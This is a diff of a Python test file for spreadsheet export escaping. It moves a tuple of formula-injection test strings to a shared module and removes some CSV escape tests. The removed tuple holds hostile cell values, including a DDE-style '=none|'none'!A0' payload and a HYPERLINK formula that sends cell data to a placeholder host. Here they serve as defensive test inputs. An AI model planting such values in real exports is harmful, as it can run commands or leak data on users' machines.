@@ -1,7 +1,5 @@
 """Exports open safely in a spreadsheet program and read back as they were."""
 
-import csv
-import io
 from datetime import date
 from decimal import Decimal
 
@@ -10,25 +8,11 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from clusters.workbooks.read.child_read import read as read_book
-from clusters.workbooks.write.export import ExportTable, escape, to_csv, to_xlsx
+from clusters.workbooks.write.export import ExportTable, to_csv, to_xlsx
 from tests.assessment.workbooks.samples import opened
+from tests.clusters.test_csvfile import ATTACKS
 
-ATTACKS = (
-    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠x", " =1", "'=1", '"=1', "  '\"=1",
-    "\u3000=1", "=none|'none'!A0", "=HYPERLINK(\"http://example.invalid/\"&A1)", "-2+3+none|'none'!A0",
-)  # fmt: skip
-TEXTS = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=40)
 STARTS = st.sampled_from(("", "=", "+", "-", "@", "'", "''", '"', " =", "\t", "＝", "　＠"))
-ANY_TEXT = st.builds(str.__add__, STARTS, TEXTS)
-
-
-def cells_of(data: bytes) -> list[list[str]]:
-    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
-
-
-@pytest.mark.parametrize("text", ATTACKS)
-def test_dangerous_text_is_escaped_in_csv(text: str) -> None:
-    assert cells_of(to_csv(("名称",), ((text,),))) == [["名称"], ["'" + text]]
 
 
 @pytest.mark.parametrize("text", ATTACKS)
@@ -47,18 +31,6 @@ def test_figures_stay_figures() -> None:
 
 def test_csv_begins_with_the_mark_that_excel_needs() -> None:
     assert to_csv(("集聚区",), ()).startswith(b"\xef\xbb\xbf")
-
-
-@given(ANY_TEXT)
-def test_escaped_text_is_the_text_behind_a_quote_at_most(text: str) -> None:
-    assert escape(text) in (text, "'" + text)
-    assert not escape(text).startswith("=")
-
-
-@given(st.lists(st.lists(ANY_TEXT, min_size=3, max_size=3), max_size=6))
-def test_csv_holds_the_texts_as_they_are_or_escaped(rows: list[list[str]]) -> None:
-    written = [[escape(text) for text in row] for row in rows]
-    assert cells_of(to_csv(("a", "b", "c"), rows)) == [["a", "b", "c"], *written]
 
 
 CELL_TEXTS = st.builds(
